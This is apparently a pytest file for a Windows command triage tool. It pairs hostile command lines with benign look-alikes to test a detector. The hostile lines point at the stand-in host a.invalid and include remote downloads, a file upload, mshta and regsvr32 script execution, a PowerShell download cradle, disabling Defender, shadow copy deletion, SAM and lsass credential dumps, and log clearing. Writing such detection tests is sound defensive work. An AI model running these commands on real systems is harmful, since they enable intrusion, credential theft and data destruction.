"""What commands of Windows mean: the hostile use is told, the ordinary one beside it is not."""

import pytest

from vedette.triage.fact import Act
from vedette.triage.facts.commands import Shell, facts_of_command
from vedette.triage.layers.commandline import split


def acts(line: str, shell: Shell = Shell.CMD) -> set[Act]:
    return {told.act for told in facts_of_command(split(line), shell)}


@pytest.mark.parametrize(
    ("hostile", "act", "ordinary"),
    [
        (
            "certutil -urlcache -split -f http://a.invalid/a.exe a.exe",
            Act.DOWNLOADS,
            "certutil -hashfile a.exe SHA256",
        ),
        ("bitsadmin /transfer j http://a.invalid/a c:\\a", Act.DOWNLOADS, "bitsadmin /list"),
        ("curl -o a.exe http://a.invalid/a.exe", Act.DOWNLOADS, "curl --version"),
        ("curl -F f=@c:\\x.zip http://a.invalid/u", Act.SENDS, "curl http://a.invalid/u"),
        ("mshta http://a.invalid/a.hta", Act.RUNS_CODE, "mshta"),
        ("regsvr32 /s /n /u /i:http://a.invalid/a.sct scrobj.dll", Act.RUNS_CODE, "regsvr32 /s my.ocx"),
        (
            'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"',
            Act.RUNS_CODE,
            "rundll32 printui.dll,PrintUIEntry",
        ),
        ("msiexec /q /i http://a.invalid/a.msi", Act.RUNS_CODE, "msiexec /i setup.msi"),
        ("wmic os get /format:http://a.invalid/a.xsl", Act.RUNS_CODE, "wmic os get caption"),
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b",
            Act.PERSISTS,
            "reg add HKCU\\Software\\Me /v a",
        ),
        ("schtasks /create /tn a /tr c:\\a.exe /sc onlogon", Act.PERSISTS, "schtasks /query"),
        ("sc create a binpath= c:\\a.exe", Act.PERSISTS, "sc query a"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", Act.DISABLES_DEFENCE, "Get-MpPreference"),
        ("Add-MpPreference -ExclusionPath C:\\", Act.DISABLES_DEFENCE, "Get-MpComputerStatus"),
        (
            "netsh advfirewall set allprofiles state off",
            Act.DISABLES_DEFENCE,
            "netsh interface show interface",
        ),
        ("sc stop WinDefend", Act.DISABLES_DEFENCE, "sc stop Spooler"),
        ("vssadmin delete shadows /all /quiet", Act.DESTROYS_RECOVERY, "vssadmin list shadows"),
        ("wbadmin delete catalog -quiet", Act.DESTROYS_RECOVERY, "wbadmin get versions"),
        ("bcdedit /set {default} recoveryenabled No", Act.DESTROYS_RECOVERY, "bcdedit /enum"),
        ("wevtutil cl Security", Act.CLEARS_TRACES, "wevtutil qe Security"),
        ("reg save HKLM\\SAM c:\\sam", Act.READS_SECRET, "reg save HKLM\\Software\\Me c:\\me"),
        (
            "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 c:\\l.dmp full",
            Act.READS_SECRET,
            "rundll32 shell32.dll,Control_RunDLL",
        ),
        ("procdump -ma lsass.exe l.dmp", Act.READS_SECRET, "procdump -ma my.exe m.dmp"),
        ("net user mallory pw /add", Act.ADDS_ACCOUNT, "net user mallory"),
        (
            "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d a",
            Act.ESCALATES,
            "reg add HKCU\\Software\\Classes\\.me /d a",
        ),
        ("psexec \\\\host cmd", Act.MOVES, "psexec -?"),
        ("wmic /node:host process call create a", Act.MOVES, "wmic process list"),
        ("attrib +h a.exe", Act.HIDES, "attrib -r a.exe"),
        ("powershell -w hidden -c a", Act.HIDES, "powershell -c a"),
        ("whoami /all", Act.READS_HOST, "mkdir a"),
    ],
)
def test_both_sides(hostile: str, act: Act, ordinary: str) -> None:
    assert act in acts(hostile)
    assert act not in acts(ordinary)


def test_what_runs_something_from_an_address_downloads_it() -> None:
    (runs,) = [
        one
        for one in facts_of_command(["mshta", "http://a.invalid/a.hta"], Shell.CMD)
        if one.act is Act.RUNS_CODE
    ]
    assert [one.act for one in runs.inputs] == [Act.DOWNLOADS]
    assert runs.inputs[0].target == "http://a.invalid/a.hta"


@pytest.mark.parametrize(
    ("line", "source"),
    [
        (
            "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/a')\"",
            Act.DOWNLOADS,
        ),
        ("powershell.exe -w 1 -enc ZQBjAGgAbwAgADEAMgAzAA==", Act.DECODES),
    ],
)
def test_code_on_the_line_is_told_with_its_source(line: str, source: Act) -> None:
    runs = [one for one in facts_of_command(split(line), Shell.CMD) if one.act is Act.RUNS_CODE]
    assert [[fed.act for fed in one.inputs] for one in runs] == [[source]]


def test_targets_keep_their_letters() -> None:
    (made,) = [
        one
        for one in facts_of_command(split("certutil -f -urlcache http://A.invalid/Ab C:\\Out.exe"), Shell.CMD)
        if one.act is Act.DOWNLOADS
    ]
    assert (made.target, made.file) == ("http://A.invalid/Ab", "C:\\Out.exe")


def test_a_program_started_by_another_is_looked_at() -> None:
    assert Act.DESTROYS_RECOVERY in acts('start "" vssadmin delete shadows /all')
    assert Act.DESTROYS_RECOVERY in acts("cmd /c vssadmin delete shadows /all")


@pytest.mark.parametrize("line", ["echo hello", "set a=b", "cd x", "rem vssadmin delete shadows"])
def test_what_starts_nothing_is_no_fact(line: str) -> None:
    assert not acts(line)


def test_a_command_of_powershell_starts_no_program() -> None:
    assert Act.RUNS_COMMAND not in acts("Get-Content a.txt", Shell.POWERSHELL)
    assert Act.RUNS_COMMAND in acts("ping a.invalid", Shell.POWERSHELL)


def test_nothing_says_nothing() -> None:
    assert not list(facts_of_command([], Shell.CMD))
    assert not list(facts_of_command([""], Shell.CMD))
